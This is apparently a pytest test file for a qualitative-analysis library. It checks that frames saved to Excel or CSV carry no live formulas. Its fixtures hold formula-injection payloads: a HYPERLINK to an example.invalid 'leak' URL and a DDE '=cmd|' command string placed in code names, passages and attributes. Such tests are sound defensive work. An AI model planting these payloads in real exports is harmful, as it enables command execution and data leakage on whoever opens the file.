"""A notebook's frames written to a spreadsheet never carry a live formula.

``Project.frames()`` returns the stored text, so a code named ``=HYPERLINK(...)`` or a
memo-like passage ``=cmd|...`` written with pandas' own ``to_excel`` is a formula in the
researcher's workbook. ``Project.save_frame`` writes a frame by the exports' rule, and
``qualcode.safe_frame`` gives pandas' ``to_csv`` a neutralised copy; the frames
themselves keep their text as stored, for the analysis.
"""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import qualcode
from qualcode import Project
from qualcode.errors import OutputError, ValidationError
from tests.conftest import SV_TEXT, small_codebook

LINK = '=HYPERLINK("http://example.invalid/?leak","click")'
DDE = "=cmd|' /c calc'!A1"
SAID = "=cmd|' /c calc'!A1 sa hon, och Politikerna bestämde."


@pytest.fixture
def hostile(tmp_path: Path) -> Project:
    """A lead's project whose first code is named LINK and whose one document has a
    passage starting DDE, coded with that code, and a role attribute holding DDE."""
    book = small_codebook()
    first = replace(book.codes[0], names={"sv": LINK, "en": LINK})
    project = Project.create(tmp_path / "p.db")
    project.apply_codebook(replace(book, codes=[first, *book.codes[1:]]))
    project.add_coder("lena", role="lead")
    project.act_as("lena")
    doc = project.import_text(
        "aby_01.txt", SAID + "\n\n" + SV_TEXT, lang="sv", attributes={"role": DDE}
    )
    project.add_coding(doc.id, 0, len(SAID), first.key, "lena")
    yield project
    project.close()


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_pandas_alone_writes_the_formula(hostile: Project, tmp_path: Path) -> None:
    """Why save_frame exists: the frame holds the text as stored, and pandas writes it as
    a formula (if this ever fails, pandas guards itself and the README may say so)."""
    codes = hostile.frames()["codes"]
    assert LINK in set(codes["name_sv"])  # the analysis sees the name as stored
    codes.to_excel(tmp_path / "pandas.xlsx", index=False)
    assert any(c.data_type == "f" for c in _cells(tmp_path / "pandas.xlsx"))


def test_save_frame_writes_every_cell_as_text(hostile: Project, tmp_path: Path) -> None:
    frames = hostile.frames()
    before = frames["codings"].copy()
    path = hostile.save_frame(frames, tmp_path / "all.xlsx")
    cells = _cells(path)
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {LINK, DDE, SAID} <= values  # kept as typed, no apostrophe added to the text
    assert openpyxl.load_workbook(path).sheetnames == ["documents", "codes", "codings"]
    pd.testing.assert_frame_equal(frames["codings"], before)  # the frame is not changed


def test_a_pivot_keeps_its_rows_and_its_text_stays_text(hostile: Project, tmp_path: Path) -> None:
    frames = hostile.frames()
    roles = frames["documents"].set_index("id")["role"]
    codings = frames["codings"].assign(role=frames["codings"]["document"].map(roles))
    table = codings.pivot_table(index="role", columns="code", aggfunc="size", fill_value=0)
    path = hostile.save_frame(table, tmp_path / "pivot.xlsx")
    sheet = openpyxl.load_workbook(path)["data"]
    assert sheet["A1"].value == "role" and sheet["A2"].value == DDE
    assert sheet["A2"].data_type == "s" and sheet["B2"].value == 1
    counts = codings.groupby("code").size()  # a Series: its index is a column too
    sheet = openpyxl.load_workbook(hostile.save_frame(counts, tmp_path / "n.xlsx"))["data"]
    assert [c.value for c in sheet[1]] == ["code", "value"]


def test_save_frame_csv_neutralises_as_the_exports_do(hostile: Project, tmp_path: Path) -> None:
    codes = hostile.frames()["codes"]
    path = hostile.save_frame(codes, tmp_path / "codes.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert "'" + LINK in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert LINK in set(codes["name_sv"])  # the frame keeps the name as stored


def test_safe_frame_for_pandas_own_writer(hostile: Project, tmp_path: Path) -> None:
    codings = hostile.frames()["codings"]
    safe = qualcode.safe_frame(codings)
    assert safe is not codings and SAID in set(codings["text"])
    assert "'" + SAID in set(safe["text"]) and (safe["start"] == codings["start"]).all()
    safe.to_csv(tmp_path / "mine.csv", index=False)
    text = (tmp_path / "mine.csv").read_text(encoding="utf-8")
    assert "\n=" not in text and ",=" not in text


def test_an_agreement_table_with_coder_pairs_is_written(tmp_path: Path) -> None:
    """The agreement frame holds a tuple of coders per pair row: openpyxl refused it."""
    project = Project.create(tmp_path / "p.db")
    try:
        frame = pd.DataFrame({"scope": ["pair"], "coders": [("johan", "=karin")], "k": [0.5]})
        sheet = openpyxl.load_workbook(project.save_frame(frame, tmp_path / "a.xlsx"))["data"]
        assert sheet["B2"].value == "johan, =karin" and sheet["B2"].data_type == "s"
    finally:
        project.close()


def test_bad_requests_are_one_line_and_write_nothing(hostile: Project, tmp_path: Path) -> None:
    codes = hostile.frames()["codes"]
    (tmp_path / "link.csv").symlink_to(tmp_path / "p.db")  # the project under another name
    cases = [
        (lambda: hostile.save_frame(codes, tmp_path / "codes.json"), ValidationError, ".csv or"),
        (
            lambda: hostile.save_frame(hostile.frames(), tmp_path / "all.csv"),
            ValidationError,
            "one table",
        ),
        (lambda: hostile.save_frame({}, tmp_path / "none.xlsx"), ValidationError, "no frames"),
        (lambda: hostile.save_frame([1, 2], tmp_path / "l.csv"), ValidationError, "a list, not"),
        (lambda: hostile.save_frame(codes, tmp_path / "link.csv"), OutputError, "project"),
    ]
    for call, error, words in cases:
        with pytest.raises(error, match=words) as raised:
            call()
        assert "\n" not in str(raised.value)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("p.db")) == [
        "link.csv"
    ]
    (tmp_path / "kept.csv").write_text("mine", encoding="utf-8")
    with pytest.raises(OutputError):
        hostile.save_frame(codes, tmp_path / "kept.csv")
    assert (tmp_path / "kept.csv").read_text(encoding="utf-8") == "mine"
    hostile.save_frame(codes, tmp_path / "kept.csv", force=True)
    assert "'=HYPERLINK(" in (tmp_path / "kept.csv").read_text(encoding="utf-8-sig")


def test_a_sheet_name_excel_forbids_is_written(hostile: Project, tmp_path: Path) -> None:
    codes = hostile.frames()["codes"]
    path = hostile.save_frame({"roles/codes [1]": codes}, tmp_path / "s.xlsx")
    assert openpyxl.load_workbook(path).sheetnames == ["roles_codes _1_"]
